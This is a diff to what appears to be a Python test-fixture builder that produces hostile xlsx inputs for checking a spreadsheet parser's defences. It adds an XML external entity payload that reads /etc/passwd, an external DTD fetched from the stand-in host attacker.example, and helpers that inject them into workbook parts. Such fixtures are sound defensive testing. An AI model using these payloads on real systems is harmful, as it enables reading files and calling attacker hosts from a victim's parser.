@@ -122,6 +122,37 @@ def xml_bomb_xlsx(valid_xlsx: bytes) -> bytes:
     return out.getvalue()
 
 
+XXE = '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE worksheet SYSTEM "http://attacker.example/w.dtd">'
+
+
+def dtd_xlsx(valid_xlsx: bytes, prolog: str = XXE, part: str = "xl/worksheets/sheet1.xml",
+             encoding: str = "utf-8") -> bytes:
+    """A workbook whose ``part`` starts with ``prolog`` (an external entity, an external DTD...) instead of
+    its XML declaration; the first shared or inline string then refers to ``&xxe;`` when declared."""
+    from tests.builders.workbooks import edit_parts
+
+    body = zipfile.ZipFile(io.BytesIO(valid_xlsx)).read(part).decode("utf-8").split("?>", 1)[-1]
+    if "<!ENTITY xxe" in prolog:
+        body = body.replace("<t>", "<t>&xxe;", 1)
+    text = prolog + body
+    if encoding != "utf-8":
+        text = text.replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{encoding}"?>')
+    return edit_parts(valid_xlsx, {part: text.encode(encoding)})
+
+
+def with_member(data: bytes, name: str, content: bytes) -> bytes:
+    """The zip with one more member (e.g. an image an office program would not reference)."""
+    out = io.BytesIO(data)
+    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr(name, content)
+    return out.getvalue()
+
+
+SVG_WITH_DOCTYPE = (b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
+                    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>')
+
+
 # --- odd archives --------------------------------------------------------------------------------
 
 def nested_zip(depth: int, inner_name: str = "台账.xlsx", inner: bytes = b"PK") -> bytes:
